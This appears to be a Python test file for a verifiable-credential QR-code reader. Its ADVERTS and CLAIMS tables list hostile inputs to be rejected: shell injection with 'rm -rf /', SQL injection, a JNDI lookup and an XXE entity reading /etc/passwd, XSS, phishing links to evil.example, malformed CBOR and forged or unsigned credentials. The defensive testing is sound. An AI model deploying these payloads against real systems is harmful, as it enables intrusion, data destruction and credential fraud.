"""Texts in QR codes (docs/threats.md, 26): addresses, commands, scripts, and what begins as a credential's code."""

from collections.abc import Iterator

from tests.reading.hostile.row import (
    ALTERED,
    UNREADABLE,
    UNSUPPORTED,
    Row,
    attack,
    control,
    forged_card,
    full,
    harmless,
    text,
)
from tests.reading.paper import draw, lay, picture
from vc import base45

ADVERTS = {
    "javascript": "javascript:alert(document.cookie)",
    "data-html": "data:text/html,<script>alert(1)</script>",
    "data-json": 'data:application/json,{"type":"VerifiableCredential"}',
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "ftp": "ftp://evil.example/credential.json",
    "phishing": "https://passport-hunar.example/verify?id=7",
    "phishing-with-name": "https://passport.hunar.example@evil.example/",
    "private-address": "http://169.254.169.254/latest/meta-data/",
    "loopback": "http://127.0.0.1:8441/verify",
    "telephone": "tel:+92-300-0000000",
    "message": "SMSTO:+92-300-0000000:send money",
    "mail": "mailto:a@evil.example?subject=x&body=y",
    "wifi": "WIFI:S:free;T:WPA;P:password;;",
    "place": "geo:24.86,67.00?q=here",
    "card": "BEGIN:VCARD\nFN:Genuine and valid\nEND:VCARD",
    "event": "BEGIN:VEVENT\nSUMMARY:Valid\nEND:VEVENT",
    "intent": "intent://scan/#Intent;scheme=zxing;end",
    "market": "market://details?id=evil",
    "one-time-password": "otpauth://totp/a?secret=JBSWY3DPEHPK3PXP",
    "payment": "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT?amount=1",
    "wallet-request": "openid4vp://?client_id=evil&request_uri=https://evil.example/r",
    "wallet-offer": "openid-credential-offer://?credential_offer_uri=https://evil.example/o",
    "health-card": "shc:/56762909524320603460292437404460312229595326546034602925",
    "health-certificate": "HC1:NCFOXN%TSMAHN-HVN8J7UQMJ4/3R1A5GWLVNWUF",
    "shell": "$(reboot); `reboot` | reboot && rm -rf /",
    "sql": "'; DROP TABLE credentials; --",
    "format": "%s%s%n {0.__class__} ${jndi:ldap://evil.example/a} {{7*7}}",
    "markup": '"><img src=x onerror=alert(1)>',
    "entities": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "terminal": "\x1b[2J\x1b[31m\x1b]8;;https://evil.example\x07click",
    "nul": "VC1\x00-R\x00\x00",
    "right-to-left": "\u202eVALID \u2066genuine\u2069",
    "verdict": "✔ Valid  Genuine and valid.",
    "digits": "9" * 3000,
    "long": "A" * 3000,
    "empty-prefix": "VC1-",
    "lower-case": "vc1-r" + "0" * 40,
    "older-version": "VC0-R" + "0" * 40,
    "base64": "eyJ",
    "almost-a-token": "ey.a",
    "no-json": "{",
    "empty-object": "{}",
    "other-object": '{"name": "Genuine and valid"}',
    "an-array": '["VerifiableCredential"]',
}
"""Whatever of this is in a code: it is counted, left alone, and leads nowhere."""

_PREFIX = "VC1-R"


def coded(data: bytes) -> str:
    return _PREFIX + base45.encode(data)


CLAIMS = {
    "nothing-behind": _PREFIX,
    "one-character": _PREFIX + "0",
    "no-base45": _PREFIX + "abc!def",
    "beyond-base45": _PREFIX + ":::" * 40,
    "no-cbor": coded(b"\xff" * 40),
    "no-tag": coded(b"\xa1\x61a\x01"),
    "tag-alone": coded(bytes.fromhex("d9cb1d")),
    "array-of-one": coded(bytes.fromhex("d9cb1d811a00010001")),
    "array-of-three": coded(bytes.fromhex("d9cb1d831a00010001a0a0")),
    "registry-entry-unknown": coded(bytes.fromhex("d9cb1d821a000f4240a0")),
    "registry-entry-negative": coded(bytes.fromhex("d9cb1d8220a0")),
    "registry-entry-huge": coded(bytes.fromhex("d9cb1d821bffffffffffffffffa0")),
    "registry-entry-text": coded(bytes.fromhex("d9cb1d826131a0")),
    "map-of-nothing": coded(bytes.fromhex("d9cb1d821a00010001a0")),
    "map-without-end": coded(bytes.fromhex("d9cb1d821a00010001bbffffffffffffffff")),
    "text-without-end": coded(bytes.fromhex("d9cb1d821a000100017bffffffffffffffff")),
    "array-without-end": coded(bytes.fromhex("d9cb1d821a000100019bffffffffffffffff")),
    "indefinite-map": coded(bytes.fromhex("d9cb1d821a00010001bfff")),
    "very-deep": coded(bytes.fromhex("d9cb1d821a00010001") + b"\x81" * 1200),
    "deep-tags": coded(bytes.fromhex("d9cb1d821a00010001") + b"\xc6" * 1200),
    "infinity": coded(bytes.fromhex("d9cb1d821a00010001a100f97c00")),
    "bytes-after": coded(base45.decode(text().removeprefix(_PREFIX)) + b"\x00"),
    "twice": text() + text().removeprefix(_PREFIX),
    "cut-off": text()[:-9],
    "forged-name": forged_card(),
    "forged-unit": forged_card(unitCode="UNIT-MASTER"),
    "forged-level": forged_card(nvqfLevel=4),
    "in-a-link-of-anybody": "https://evil.example/#" + _PREFIX + "%00%00",
    "percent-signs": "https://evil.example/#" + _PREFIX + "%%%2",
    "json-of-a-forgery": '{"@context":["https://www.w3.org/ns/credentials/v2"],"type":["VerifiableCredential"]}',
    "context-from-elsewhere": '{"@context":["https://evil.example/v1"],"type":["VerifiableCredential"]}',
    "token-of-nobody": "eyJhbGciOiJub25lIn0.eyJ0eXBlIjpbIlZlcmlmaWFibGVDcmVkZW50aWFsIl19.",
}
"""What begins as a credential does, and is none, or none that anybody signed."""


def on_paper(*texts: str | bytes) -> bytes:
    """A picture of codes."""
    codes = [draw(one) for one in texts]
    size = sum(code.width + 20 for code in codes) + 100, max(code.height for code in codes) + 120
    return picture(lay(codes, size))


def _rows() -> Iterator[Row]:
    for name, advert in ADVERTS.items():
        yield attack(f"alone-{name}", lambda advert=advert: on_paper(advert), UNREADABLE, "reading:nothing")
        yield control(f"beside-{name}", lambda advert=advert: on_paper(advert, text()), "reading:other-codes")
        if "\x00" not in advert:
            yield attack(f"typed-{name}", lambda advert=advert: advert.encode(), {UNREADABLE, UNSUPPORTED})
    for name, claim in CLAIMS.items():
        any_fault = {UNREADABLE, UNSUPPORTED, ALTERED}
        if not name.startswith("token"):
            yield attack(f"claimed-{name}", lambda claim=claim: on_paper(claim), any_fault)
        yield attack(f"claimed-typed-{name}", lambda claim=claim: claim.encode(), any_fault)
    for name in ("forged-name", "cut-off", "very-deep", "registry-entry-unknown"):
        yield attack(f"good-beside-{name}", lambda name=name: on_paper(text(), CLAIMS[name]), any_fault)
    for name in ("forged-name", "forged-unit", "forged-level"):
        yield attack(f"is-forged-{name}", lambda name=name: on_paper(CLAIMS[name]), ALTERED)
    yield control("plain", lambda: on_paper(text()))
    yield control("the-same-twice", lambda: on_paper(text(), text()))
    yield control("behind-a-link-of-anybody", lambda: on_paper("https://evil.example/x#" + text().replace("%", "%25")))
    yield control("line-ends-around", lambda: b"\r\n " + text().encode() + b"\r\n")
    yield harmless("a-small-credential-as-json", lambda: on_paper(full()[:1000]))


ROWS = tuple(_rows())
